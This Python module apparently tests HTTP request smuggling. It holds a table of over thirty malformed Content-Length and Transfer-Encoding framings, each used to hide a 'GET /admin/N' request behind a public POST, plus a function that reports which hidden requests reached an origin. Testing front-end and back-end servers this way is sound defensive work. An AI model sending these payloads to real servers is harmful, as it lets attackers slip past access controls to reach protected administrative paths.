"""Requests with a second one hidden behind framing that two ends read differently, as bytes. Pure."""

from __future__ import annotations

SMUGGLES = {
    "CL.TE": b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "TE.CL": b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n5c\r\n",
    "two lengths": b"Content-Length: 0\r\nContent-Length: %d\r\n\r\n",
    "two lengths, swapped": b"Content-Length: %d\r\nContent-Length: 0\r\n\r\n",
    "list of lengths": b"Content-Length: 0, %d\r\n\r\n",
    "plus": b"Content-Length: +%d\r\n\r\n",
    "blank in number": b"Content-Length: 0 %d\r\n\r\n",
    "hex": b"Content-Length: 0x0\r\n\r\n",
    "minus": b"Content-Length: -1\r\n\r\n",
    "unknown coding": b"Transfer-Encoding: xchunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "coding twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "coding listed": b"Transfer-Encoding: identity, chunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "chunked, then another": b"Transfer-Encoding: chunked, identity\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "tab": b"Transfer-Encoding:\tchunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "vertical tab": b"Transfer-Encoding: \x0bchunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "blank before colon": b"Transfer-Encoding : chunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "blank before length's colon": b"Content-Length : %d\r\n\r\n",
    "folded": b"Transfer-Encoding:\r\n chunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "case": b"tRANSFER-eNCODING: cHUNKED\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "bare LF": b"X: y\nTransfer-Encoding: chunked\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "bare CR": b"X: y\rTransfer-Encoding: chunked\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
    "NUL in name": b"Content\0-Length: 0\r\nContent-Length: %d\r\n\r\n",
    "quoted": b'Transfer-Encoding: "chunked"\r\nContent-Length: %d\r\n\r\n0\r\n\r\n',
    "chunk of odd size": b"Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n",
    "chunk with a sign": b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n",
    "chunk of 2**64": b"Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n",
    "chunk's extension": b"Transfer-Encoding: chunked\r\n\r\n0;\nx\r\n\r\n",
    "chunk ended by LF": b"Transfer-Encoding: chunked\r\n\r\n1\na\n0\n\n",
    "trailer": b"Transfer-Encoding: chunked\r\n\r\n0\r\nContent-Length: 5\r\nHost: evil.example.net\r\n\r\n",
    "expect": b"Expect: 100-continue\r\nContent-Length: %d\r\n\r\n",
    "GET with a body": b"Content-Length: %d\r\n\r\n",
    "HTTP/1.0 chunked": b"Transfer-Encoding: chunked\r\nConnection: keep-alive\r\nContent-Length: %d\r\n\r\n0\r\n\r\n",
}


def smuggles(name: str) -> dict[str, bytes]:
    """To an origin of this name: `POST /public/a` in each way, and `GET /admin/N` within it; N is the way's number."""
    raws = {}
    for number, (how, template) in enumerate(SMUGGLES.items()):
        hidden = f"GET /admin/{number} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode()
        size = len(hidden) + 5 * template.count(b"\r\n0\r\n\r\n")
        method = b"GET" if how == "GET with a body" else b"POST"
        version = b"HTTP/1.0" if "1.0" in how else b"HTTP/1.1"
        head = method + b" /public/a " + version + b"\r\nHost: " + name.encode() + b"\r\n"
        raws[how] = head + (template % size if b"%d" in template else template) + hidden
    return raws


def smuggled(targets: list[str]) -> list[str]:
    """The ways whose hidden request is among these that an origin saw."""
    ways = list(SMUGGLES)
    return [ways[int(target.removeprefix("/admin/"))] for target in targets if target.startswith("/admin/")]
